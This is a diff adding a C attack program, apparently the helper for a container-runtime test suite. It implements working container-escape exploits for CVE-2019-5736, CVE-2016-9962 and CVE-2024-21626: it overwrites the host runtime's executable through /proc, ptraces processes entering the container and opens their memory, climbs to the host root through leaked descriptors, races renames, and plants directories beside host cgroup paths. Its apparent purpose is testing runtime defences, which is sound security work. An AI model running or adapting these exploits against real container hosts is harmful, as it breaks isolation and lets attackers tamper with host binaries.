@@ -1,0 +1,256 @@
+/*
+ * What an attacker runs, inside a container that it owns or (swap) beside it: a static program for the suite's attacks.
+ * Each verb prints a word when it is ready, and a line in capitals when it got what it wanted.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static struct timespec until;
+
+static void start(const char *seconds, const char *word)
+{
+	clock_gettime(CLOCK_MONOTONIC, &until);
+	until.tv_sec += atoi(seconds);
+	printf("%s\n", word);
+	fflush(stdout);
+}
+
+static int time_left(void)
+{
+	struct timespec now;
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	return now.tv_sec < until.tv_sec;
+}
+
+static int end(void)
+{
+	printf("done\n");
+	return 0;
+}
+
+/* "swap A B SECONDS": exchanges two names as fast as it can, with RENAME_EXCHANGE. */
+static int swap(const char *a, const char *b, const char *seconds)
+{
+	start(seconds, "swapping");
+	while (time_left())
+		for (int i = 0; i < 1000; i++)
+			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2))
+				return perror("renameat2"), 1;
+	return end();
+}
+
+/* Where a link of procfs leads; empty if that can't be seen. */
+static const char *target_of(const char *link)
+{
+	static char target[4096];
+	ssize_t n = readlink(link, target, sizeof target - 1);
+	target[n < 0 ? 0 : n] = 0;
+	return target;
+}
+
+/* Whether an executable is one of the container's own, which may be written to. */
+static int is_own(const char *exe)
+{
+	return !*exe || strstr(exe, "busybox") || strstr(exe, "/attack") || strstr(exe, "/probe");
+}
+
+/* A descriptor of the executable of a process that is none of the container's, as long as there is time. */
+static int foreign_executable(void)
+{
+	char path[64];
+
+	while (time_left())
+		for (int pid = 1; pid < 600; pid++) {
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			int fd = pid == getpid() ? -1 : open(path, O_RDONLY | O_CLOEXEC);
+			if (fd < 0)
+				continue;
+			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+			if (!is_own(target_of(path)))
+				return fd;
+			close(fd);
+		}
+	return -1;
+}
+
+/*
+ * "overwrite SECONDS" (CVE-2019-5736): takes hold of the executable of whatever enters this container, and writes to it once
+ * that runs no longer.
+ */
+static int overwrite(const char *seconds)
+{
+	char path[64];
+	int fd;
+
+	start(seconds, "watching");
+	while ((fd = foreign_executable()) >= 0) {
+		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+		for (int i = 0; i < 3000; i++) {
+			int w = open(path, O_WRONLY | O_CLOEXEC);
+			if (w >= 0 && write(w, "#!/owned\n", 9) == 9)
+				printf("WROTE %s\n", target_of(path)), fflush(stdout);
+			if (w >= 0)
+				break;
+		}
+		close(fd);
+	}
+	return end();
+}
+
+/* "occupy SECONDS": holds the executable of whatever enters, and is about to write to it all the time. */
+static int occupy(const char *seconds)
+{
+	char path[64];
+
+	start(seconds, "watching");
+	int fd = foreign_executable();
+	if (fd < 0)
+		return fprintf(stderr, "nothing came\n"), 1;
+	printf("holding\n");
+	fflush(stdout);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	while (time_left())
+		for (int i = 0; i < 1000; i++) {
+			int w = open(path, O_WRONLY | O_CLOEXEC);
+			if (w >= 0)
+				close(w);
+		}
+	return end();
+}
+
+/* "trace SECONDS" (CVE-2016-9962): stops whatever enters this container before it is one of its programs. */
+static int trace(const char *seconds)
+{
+	char path[64], exe[4096];
+
+	start(seconds, "watching");
+	while (time_left())
+		for (int pid = 2; pid < 600; pid++) {
+			if (pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0))
+				continue;
+			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+			waitpid(pid, 0, __WALL);
+			/* It stands still: what it executes now is what it was caught in. */
+			snprintf(path, sizeof path, "/proc/%d/exe", pid);
+			strcpy(exe, target_of(path));
+			if (!is_own(exe)) {
+				snprintf(path, sizeof path, "/proc/%d/mem", pid);
+				int mem = open(path, O_RDWR | O_CLOEXEC);
+				printf("TRACED %s, its memory is %s\n", exe, mem < 0 ? "closed" : "open");
+				fflush(stdout);
+				close(mem);
+			}
+			ptrace(PTRACE_DETACH, pid, 0, 0);
+		}
+	return end();
+}
+
+/* Whether MARKER, a path of the host, is reached from `dir` by going up as far as it goes. */
+static int climbs(int dir, const char *marker)
+{
+	int found = -1;
+
+	dir = openat(dir, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
+	for (int i = 0; dir >= 0 && i < 40; i++) {
+		int up = openat(dir, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
+		close(dir);
+		dir = up;
+	}
+	if (dir >= 0)
+		found = openat(dir, marker + 1, O_RDONLY | O_CLOEXEC);
+	close(dir);
+	if (found >= 0)
+		close(found);
+	return found >= 0;
+}
+
+/* "climb MARKER": the way to the host by the working directory or by a descriptor that was left open (CVE-2024-21626). */
+static int climb(const char *marker)
+{
+	if (climbs(AT_FDCWD, marker))
+		printf("REACHED the host by the working directory\n");
+	for (int fd = 0; fd < 100; fd++)
+		if (climbs(fd, marker))
+			printf("REACHED the host by descriptor %d\n", fd);
+	return end();
+}
+
+/*
+ * "descend SECONDS NAME": makes a directory beside every directory that a process which enters has open: in a cgroup's
+ * parent, say (CVE-2016-9962 with CAP_SYS_PTRACE, which a not dumpable process does not keep out).
+ */
+static int descend(const char *seconds, const char *name)
+{
+	char path[300], exe[64];
+	struct stat own, root;
+
+	stat("/", &own);
+	start(seconds, "watching");
+	while (time_left())
+		for (int pid = 2; pid < 600; pid++) {
+			snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
+			if (pid == getpid() || is_own(target_of(exe)))
+				continue;
+			for (int fd = 3; fd < 40; fd++) {
+				snprintf(path, sizeof path, "/proc/%d/fd/%d/../%s", pid, fd, name);
+				if (!mkdir(path, 0755)) {
+					snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+					printf("MADE a directory beside %s\n", target_of(path));
+					fflush(stdout);
+				}
+			}
+			snprintf(path, sizeof path, "/proc/%d/root", pid);
+			if (!stat(path, &root) && (root.st_dev != own.st_dev || root.st_ino != own.st_ino))
+				printf("REACHED the root of the host by %s\n", path), fflush(stdout);
+		}
+	return end();
+}
+
+/* "connect PATH": to a socket of the host, as anybody. */
+static int connect_to(const char *path)
+{
+	struct sockaddr_un a = { .sun_family = AF_UNIX };
+	int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
+
+	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
+	if (connect(s, (void *)&a, sizeof a))
+		return perror(path), 1;
+	printf("CONNECTED\n");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *what = argc > 1 ? argv[1] : "";
+
+	if (!strcmp(what, "swap") && argc > 4)
+		return swap(argv[2], argv[3], argv[4]);
+	if (!strcmp(what, "overwrite") && argc > 2)
+		return overwrite(argv[2]);
+	if (!strcmp(what, "occupy") && argc > 2)
+		return occupy(argv[2]);
+	if (!strcmp(what, "trace") && argc > 2)
+		return trace(argv[2]);
+	if (!strcmp(what, "climb") && argc > 2)
+		return climb(argv[2]);
+	if (!strcmp(what, "descend") && argc > 3)
+		return descend(argv[2], argv[3]);
+	if (!strcmp(what, "connect") && argc > 2)
+		return connect_to(argv[2]);
+	fprintf(stderr, "attack: what is \"%s\"?\n", what);
+	return 2;
+}
